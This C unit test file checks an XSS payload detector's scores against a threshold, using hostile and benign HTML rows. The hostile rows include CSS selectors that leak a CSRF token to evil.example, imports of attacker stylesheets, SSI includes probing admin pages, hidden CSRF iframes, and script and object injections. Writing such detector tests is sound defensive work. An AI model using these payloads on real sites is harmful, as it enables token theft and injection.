/* test_payload_rtx7.c - issue 20, helper x (session 28): XSS rows pinned
 * at the kill line (60, deploy/rules.yaml) by this session's fixes,
 * failing first on main 8e011e8. Each value is judged as a query
 * parameter value and as a form body "a=1&q=<percent-encoded value>": an
 * attack must draw an XSS finding at or above 60 in both. The benign
 * rows beside these rules (CDN sheets, includes of a page's parts, data
 * blocks, embeds' styles) are in test_payload_kill.c. */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <cmocka.h>

#include <stdio.h>
#include <string.h>

#include "collector/detect/payload.h"

#include "tests/unit/payload_rt_table.h"

#define KILL 60

static void kill_run(const char *name, const char *const *t, size_t n)
{
	int bad = 0;

	for (size_t i = 0; i < n; i++)
		for (int ctx = 0; ctx < 2; ctx++) {
			int s = rt_best(t[i], ctx, PAYLOAD_XSS);
			if (s < KILL) {
				bad++;
				fprintf(stderr, "  FAIL %s (%s): xss %d %s\n", name, ctx ? "body" : "value", s, t[i]);
			}
		}
	assert_int_equal(bad, 0);
}

/* rows that must stay below the kill line in both contexts */
static void told_run(const char *name, const char *const *t, size_t n)
{
	int bad = 0;

	for (size_t i = 0; i < n; i++)
		for (int ctx = 0; ctx < 2; ctx++) {
			int s = rt_best(t[i], ctx, PAYLOAD_XSS);
			if (s >= KILL) {
				bad++;
				fprintf(stderr, "  FAIL %s (%s): xss %d %s\n", name, ctx ? "body" : "value", s, t[i]);
			}
		}
	assert_int_equal(bad, 0);
}

/* a style sheet whose address is evidently hostile (userinfo naming a
 * trusted host before the real one, an IP literal, plain http), linked
 * or imported; and a selector reading a field's value written inline
 * with the URL of another host it fetches on a match (CSS exfiltration,
 * blanks and a namespace in the selector, image-set() fetching too) */
static void test_xss_foreign_sheet(void **st)
{
	static const char *const t[] = {
		"<link rel=stylesheet href=\"https://fonts.googleapis.com@evil.example/x.css\">",
		"<link rel=stylesheet href=https://203.0.113.9/x.css>",
		"<link rel=stylesheet href=http://evil.example/x.css>",
		"<style>@import 'https://fonts.googleapis.com@evil.example/x.css';</style>",
		"<style>@import url(http://evil.example/leak.css)</style>",
		"<style>input[name=csrf][value^=a]{background:url(https://evil.example/?a)}</style>",
		"<style>input[value$=\"z\"]{background-image:url(//evil.example/z)}</style>",
		"<style>input[value *= \"9\"] ~ *{list-style:url(/log?9)}</style>",
		"<style>input[ value^=a]{background:url(//evil.example/a)}</style>",
		"<style>input[*|value^=a]{background:url(//evil.example/a)}</style>",
		"<style>input[value^=a]{background:image-set(\"//evil.example/a\" 1x)}</style>",
		"<style>input[value^=a]{background:image-set(\"https://evil.example/a\" 1x)}</style>",
	};

	(void)st;
	kill_run("foreign-sheet", t, sizeof(t) / sizeof(t[0]));
}

/* rev7 F3/F2: a sheet over https is told, whatever its host (its text is
 * remote: the site's own, a form service's, an unversioned library's);
 * a value selector styling with the site's own image is custom CSS */
static void test_xss_sheet_told(void **st)
{
	static const char *const t[] = {
		"<link href=\"https://mysite.com/assets/app.css\" rel=\"stylesheet\">",
		"<style>@import url('https://www.example.com/css/theme.css');</style>",
		"<link rel=\"stylesheet\" href=\"https://www.w3schools.com/w3css/4/w3.css\">",
		"<link rel=\"stylesheet\" href=\"https://sibforms.com/forms/end-form/build/sib-styles.css\">",
		"<link rel=\"stylesheet\" href=\"https://js.hsforms.net/forms/embed/v2.css\">",
		"<link rel=\"stylesheet\" href=\"https://unpkg.com/mvp.css\">",
		"<style>input[value^=\"https\"]{background:url(/img/lock.svg) no-repeat}</style>",
		"<style>option[value^=\"de\"]{font-weight:bold} body{background:url(/img/bg.png)}</style>",
		"<style>option[value^=\"de\"]{font-weight:bold} body{background:url(https://cdn.example/bg.png)}</style>",
	};

	(void)st;
	told_run("sheet-told", t, sizeof(t) / sizeof(t[0]));
}

/* server-side includes of a page that is none of a page's parts (one
 * the visitor may not read; the SSI probe's first step) */
static void test_xss_ssi_probe(void **st)
{
	static const char *const t[] = {
		"<!--#include virtual=\"/admin/index.html\" -->",
		"<!--#include virtual=\"/private/report.htm\" -->",
		"<!--#include file=\"secret.html\" -->",
		"<!--#include virtual=\"/admin/desktop.html\" -->",
		"<!--#include virtual=\"/shared/admin/users.html\" -->",
	};

	(void)st;
	kill_run("ssi-probe", t, sizeof(t) / sizeof(t[0]));
}

/* a dialog given a capitalised name: a constructor or namespace every
 * page binds (the dialog opens), not a program's local */
static void test_xss_dialog_global_ctor(void **st)
{
	static const char *const t[] = {
		"alert(Text)",
		"alert(Error)",
		"alert(JSON)",
		"prompt(Response)",
		"alert.call(null, Text)",
	};

	(void)st;
	kill_run("dialog-global-ctor", t, sizeof(t) / sizeof(t[0]));
}

/* rev7 F5/F8: a capitalised name no page binds is a snippet's; an include
 * of a plain page of the site is told */
static void test_xss_told_snippets(void **st)
{
	static const char *const t[] = {
		"alert(Message)",
		"prompt(Question)",
		"<!--#include virtual=\"/about.html\" -->",
		"<!--#include virtual=\"/includes/footer.html\" -->",
	};

	(void)st;
	told_run("told-snippets", t, sizeof(t) / sizeof(t[0]));
}

/* an attacker's frame declared as an embed but kept out of sight by its
 * style: its box shrunk, or moved off the page */
static void test_xss_frame_style_hidden(void **st)
{
	static const char *const t[] = {
		"<iframe src=\"https://evil.example/csrf\" width=600 height=400 style=\"width:0;height:0\"></iframe>",
		"<iframe src=\"https://evil.example/csrf\" width=600 height=400 "
		"style=\"position:absolute;left:-9999px\"></iframe>",
		"<iframe src=\"https://evil.example/csrf\" width=600 height=400 style=\"max-height: 1px\"></iframe>",
		"<iframe src=\"https://evil.example/csrf\" width=600 height=400 "
		"style=\"position:fixed; top: -1000px\"></iframe>",
		"<iframe src=\"https://evil.example/csrf\" width=600 height=400 style=\"border:0;width:.5px\"></iframe>",
		"<iframe src=\"https://evil.example/csrf\" width=600 height=400 style=\"transform: scale(0)\"></iframe>",
		"<iframe src=\"https://www.youtube.com/embed/abc\" width=\"560\" height=\"315\" "
		"style=\"opacity:.01\"></iframe>",
		"<iframe src=\"https://www.youtube.com/embed/abc\" width=\"560\" height=\"315\" "
		"style=\"position:fixed;right:-9999px\"></iframe>",
		"<iframe src=\"https://www.youtube.com/embed/abc\" width=\"560\" height=\"315\" "
		"style=\"transform:translateX(-9999px)\"></iframe>",
		"<iframe src=\"https://evil.example/csrf\" width=600 height=400 style=\"width:1px;min-width:1px\"></iframe>",
		"<iframe src=\"https://evil.example/csrf\" width=600 height=400 style=\"left:-5e3px\"></iframe>",
		"<iframe src=\"https://evil.example/csrf\" width=600 height=400 style=\"opacity : 0\"></iframe>",
		"<iframe src=\"https://evil.example/csrf\" width=600 height=400 style=\"width : 0;height : 0\"></iframe>",
	};

	(void)st;
	kill_run("frame-style-hidden", t, sizeof(t) / sizeof(t[0]));
}

/* rev7 F10: embeds whose style restores a tiny width (the iframe-resizer
 * idiom) or centres the frame by a negative margin, or dims it a little */
static void test_xss_frame_style_shown(void **st)
{
	static const char *const t[] = {
		"<iframe src=\"https://player.vimeo.com/video/123\" width=\"640\" height=\"360\" "
		"style=\"width: 1px; min-width: 100%;\" frameborder=\"0\"></iframe>",
		"<iframe src=\"https://docs.google.com/forms/d/e/x/viewform?embedded=true\" width=\"640\" "
		"height=\"800\" style=\"width:1px;min-width:100%;border:0\"></iframe>",
		"<iframe src=\"https://www.youtube.com/embed/abc\" width=\"1280\" height=\"720\" "
		"style=\"position:absolute;left:50%;margin-left:-640px\"></iframe>",
		"<iframe src=\"https://www.youtube.com/embed/abc\" width=\"560\" height=\"315\" "
		"style=\"opacity:0.5\"></iframe>",
	};

	(void)st;
	told_run("frame-style-shown", t, sizeof(t) / sizeof(t[0]));
}

/* scripts that run beside or instead of a JSON data block */
static void test_xss_script_not_data(void **st)
{
	static const char *const t[] = {
		"<script type=\"application/ld+json\">{}</script><script>alert(1)</script>",
		"<script type=\"text/javascript\">alert(1)</script>",
		"<script type=\"module\">import('//evil.example/x.js')</script>",
		"<script type=\"json\">alert(1)</script>",
		"<script type=\"application/json;alert\">alert(1)</script>",
		"<script type>alert(1)</script>",
	};

	(void)st;
	kill_run("script-not-data", t, sizeof(t) / sizeof(t[0]));
}

/* embedding elements a PDF embed's exemption must not cover: another
 * type, a plugin's class or codebase, a script's access, a source that
 * is no web address or not a .pdf (pass on main: they guard it) */
static void test_xss_embed_not_pdf(void **st)
{
	static const char *const t[] = {
		"<object data=\"https://evil.example/x.pdf\" type=\"text/html\"></object>",
		"<object data=\"/files/a.pdf\" classid=\"clsid:1\"></object>",
		"<embed src=\"/x.pdf\" allowscriptaccess=always>",
		"<object data=\"javascript:alert(1)//.pdf\"></object>",
		"<object data=data:text/html,x.pdf></object>",
		"<embed src=\"/uploads/x.pdf.html\">",
	};

	(void)st;
	kill_run("embed-not-pdf", t, sizeof(t) / sizeof(t[0]));
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_xss_foreign_sheet),
		cmocka_unit_test(test_xss_sheet_told),
		cmocka_unit_test(test_xss_told_snippets),
		cmocka_unit_test(test_xss_frame_style_shown),
		cmocka_unit_test(test_xss_ssi_probe),
		cmocka_unit_test(test_xss_dialog_global_ctor),
		cmocka_unit_test(test_xss_frame_style_hidden),
		cmocka_unit_test(test_xss_script_not_data),
		cmocka_unit_test(test_xss_embed_not_pdf),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
